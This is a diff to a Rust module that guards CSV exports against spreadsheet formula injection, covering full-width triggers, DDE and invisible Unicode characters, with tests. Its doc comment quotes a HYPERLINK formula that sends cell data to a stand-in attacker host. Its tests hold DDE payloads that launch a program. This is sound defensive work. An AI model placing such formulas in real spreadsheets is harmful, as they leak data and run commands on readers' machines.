@@ -1,15 +1,53 @@
 //! Keeping spreadsheet programs from running text as a formula (CSV injection, OWASP).
 //!
 //! A CSV cell has no type: Excel and LibreOffice treat text that starts with `=`, `+`, `-`, `@`, a
-//! tab or a carriage return as a formula, so a note such as `=HYPERLINK("http://evil.example/?"&A1)`
-//! would run on the reader's machine. Such text is written with a leading `'`, which the programs
-//! show as text. Numbers are left alone (`-3` stays a number), and the import removes exactly the
-//! quote the export added, so a file read back gives the text that was written.
+//! tab or a carriage return as a formula, and `|` starts a DDE call in older Excel, so a note such
+//! as `=HYPERLINK("http://evil.example/?"&A1)` would run on the reader's machine. Excel also turns
+//! the full-width `＝` `＋` `－` `＠` (typed with a Japanese IME) into their ASCII forms, and a
+//! program may drop invisible characters (zero-width space, BOM, other Unicode format characters,
+//! category Cf) or leading spaces before it looks: so a trigger after any of those counts too. Such
+//! text is written with a leading `'`, which the programs show as text. Numbers are left alone (`-3`
+//! stays a number), and the import removes exactly the quote the export added, so a file read back
+//! gives the text that was written.
 
 use std::borrow::Cow;
 
-/// The characters that make a spreadsheet program read a cell as a formula.
-const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+/// The characters that make a spreadsheet program read a cell as a formula: the ASCII ones, `|`
+/// (DDE), and the full-width forms of each (U+FF01–FF5E mirror ASCII).
+const FORMULA_TRIGGERS: [char; 10] = ['=', '+', '-', '@', '|', '＝', '＋', '－', '＠', '｜'];
+
+/// Tab and carriage return start a formula only as a cell's very first character.
+const LEADING_TRIGGERS: [char; 2] = ['\t', '\r'];
+
+/// Unicode format characters (general category Cf, Unicode 15.1): invisible, and dropped or
+/// ignored by programs that then see what follows as the cell's start.
+const FORMAT_CHARACTERS: [(char, char); 21] = [
+    ('\u{00AD}', '\u{00AD}'),
+    ('\u{0600}', '\u{0605}'),
+    ('\u{061C}', '\u{061C}'),
+    ('\u{06DD}', '\u{06DD}'),
+    ('\u{070F}', '\u{070F}'),
+    ('\u{0890}', '\u{0891}'),
+    ('\u{08E2}', '\u{08E2}'),
+    ('\u{180E}', '\u{180E}'),
+    ('\u{200B}', '\u{200F}'),
+    ('\u{202A}', '\u{202E}'),
+    ('\u{2060}', '\u{2064}'),
+    ('\u{2066}', '\u{206F}'),
+    ('\u{FEFF}', '\u{FEFF}'),
+    ('\u{FFF9}', '\u{FFFB}'),
+    ('\u{110BD}', '\u{110BD}'),
+    ('\u{110CD}', '\u{110CD}'),
+    ('\u{13430}', '\u{1343F}'),
+    ('\u{1BCA0}', '\u{1BCA3}'),
+    ('\u{1D173}', '\u{1D17A}'),
+    ('\u{E0001}', '\u{E0001}'),
+    ('\u{E0020}', '\u{E007F}'),
+];
+
+fn is_format_character(c: char) -> bool {
+    FORMAT_CHARACTERS.iter().any(|&(first, last)| (first..=last).contains(&c))
+}
 
 /// The quote that marks a cell as text.
 const GUARD: char = '\'';
@@ -24,8 +62,11 @@ fn is_plain_number(text: &str) -> bool {
         && fraction.bytes().all(|b| b.is_ascii_digit())
 }
 
+/// Whether a program could read the text as a formula: a trigger first, or after leading
+/// whitespace and invisible format characters.
 fn starts_with_trigger(text: &str) -> bool {
-    text.starts_with(FORMULA_TRIGGERS)
+    text.starts_with(LEADING_TRIGGERS)
+        || text.trim_start_matches(|c: char| c.is_whitespace() || is_format_character(c)).starts_with(FORMULA_TRIGGERS)
 }
 
 /// Text as it is written to a CSV cell. Text that already starts with quotes before a trigger
@@ -61,15 +102,82 @@ mod tests {
     }
 
     #[test]
+    fn full_width_prefixes_and_dde_are_quoted() {
+        for text in ["＝1+1", "＋1", "－1", "＠SUM(A1)", "｜calc", "|calc", "cmd|' /C calc'!A0", "＝ＳＵＭ（Ａ１）"]
+        {
+            let expected = if text.starts_with("cmd") { text.to_owned() } else { format!("'{text}") };
+            assert_eq!(guard(text), expected, "{text:?}");
+        }
+    }
+
+    #[test]
+    fn a_trigger_after_invisible_characters_or_spaces_is_quoted() {
+        for text in [
+            "\u{200B}=1+1",
+            "\u{200C}+1",
+            "\u{200D}-x",
+            "\u{FEFF}@x",
+            "\u{2060}|calc",
+            "\u{00AD}=x",
+            "\u{202E}=x",
+            "\u{E0041}=x",
+            " =1+1",
+            "\u{3000}＝1+1",
+            "\u{00A0}\u{200B} -1",
+            "\n=x",
+        ] {
+            assert_eq!(guard(text), format!("'{text}"), "{text:?}");
+        }
+    }
+
+    #[test]
     fn numbers_and_plain_text_are_left_alone() {
-        for text in ["-3", "-3.5", "170", "30.0", "", "オープンデータ追加", "a=b", "'quoted"] {
+        for text in [
+            "-3",
+            "-3.5",
+            "170",
+            "30.0",
+            "",
+            "オープンデータ追加",
+            "a=b",
+            "'quoted",
+            "a|b",
+            "\u{200B}",
+            " ",
+            "\u{200B}plain",
+            " 1",
+            "全角＝は途中なら可",
+            "−3",
+        ] {
             assert_eq!(guard(text), text, "{text:?}");
         }
     }
 
     #[test]
     fn unguard_restores_what_guard_wrote() {
-        for text in ["=1+1", "+1", "-x", "@x", "\tx", "\rx", "-3", "'=x", "''-x", "'plain", "plain", "'", ""] {
+        for text in [
+            "=1+1",
+            "+1",
+            "-x",
+            "@x",
+            "\tx",
+            "\rx",
+            "-3",
+            "'=x",
+            "''-x",
+            "'plain",
+            "plain",
+            "'",
+            "",
+            "＝1+1",
+            "|calc",
+            "\u{200B}=x",
+            "'\u{200B}=x",
+            "'\u{FEFF}＠x",
+            " =x",
+            "\u{200B}plain",
+            "'\u{200B}plain",
+        ] {
             assert_eq!(unguard(&guard(text)), text, "{text:?}");
         }
     }
@@ -78,5 +186,8 @@ mod tests {
     fn unguard_keeps_a_quote_the_export_did_not_add() {
         assert_eq!(unguard("'hello"), "'hello");
         assert_eq!(unguard("'=x"), "=x");
+        assert_eq!(unguard("'＝x"), "＝x");
+        assert_eq!(unguard("'\u{200B}=x"), "\u{200B}=x");
+        assert_eq!(unguard("'\u{200B}x"), "'\u{200B}x");
     }
 }
